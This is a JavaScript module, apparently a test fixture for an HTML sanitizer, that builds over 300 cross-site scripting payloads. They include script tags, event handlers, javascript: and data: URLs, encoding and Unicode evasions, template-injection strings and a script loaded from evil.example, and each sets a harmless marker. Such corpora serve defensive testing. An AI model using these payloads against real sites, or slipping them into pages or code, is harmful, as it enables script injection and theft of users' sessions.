// What people try to make a page run: more than 300 texts. Each would set `weirRan` if any of it ran.
const RUN = 'weirRan=1';

const TAGS = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'input', 'details', 'marquee', 'object', 'select', 'textarea',
  'form', 'button', 'a', 'math', 'table', 'style', 'link', 'meta'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onpointerenter', 'onanimationstart',
  'onbegin', 'oncut', 'onclick', 'onblur'];

const CLASSICS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script >${RUN}</script >`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<!--<script>${RUN}//-->`,
  `<script src=data:text/javascript,${RUN}></script>`, `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`, `<script\n>${RUN}</script>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img src=x onerror='${RUN}'>`, `<img src=x onerror=\`${RUN}\`>`,
  `<img/src=x/onerror=${RUN}>`, `<img src="x"onerror="${RUN}">`, `<IMG SRC=x ONERROR=${RUN}>`, `<img src=x onerror&#61;${RUN}>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href=javascript:${RUN}><text y=20>x</text></a></svg>`, `<svg><use href=data:image/svg+xml,x></svg>`,
  `<math><mi xlink:href=javascript:${RUN}>x</mi></math>`, `<math><annotation-xml encoding=text/html><script>${RUN}</script>`,
  `<iframe src=javascript:${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`, `<form action=javascript:${RUN}><input type=submit autofocus>`, `<base href=javascript:${RUN}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<link rel=stylesheet href=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`, `<a href="java\tscript:${RUN}">x</a>`, `<a href=&#106;avascript:${RUN}>x</a>`,
  `<a href=JaVaScRiPt:${RUN}>x</a>`, `<a href=" javascript:${RUN}">x</a>`, `<a href=data:text/html,<script>${RUN}</script>>x</a>`,
  `<a href=vbscript:${RUN}>x</a>`, `<style>@import 'javascript:${RUN}';</style>`, `<div style=background:url(javascript:${RUN})>`,
  `<div style="width:expression(${RUN})">`, `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `javascript:${RUN}`, `JAVASCRIPT:${RUN}`, `https://x.example/"onmouseover="${RUN}`, `https://x.example/'><script>${RUN}</script>`,
  `https://x.example/javascript:${RUN}`, `http://javascript:${RUN}@x.example/`, `@ada"onclick="${RUN}`, `:wave:"onerror="${RUN}`,
  `:"><img src=x onerror=${RUN}>:`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`, `<\u0000script>${RUN}</script>`, `\u202E<script>${RUN}</script>`, `<ſcript>${RUN}</ſcript>`,
];

export const PAYLOADS = [...CLASSICS, ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${RUN} autofocus src=x>`))];
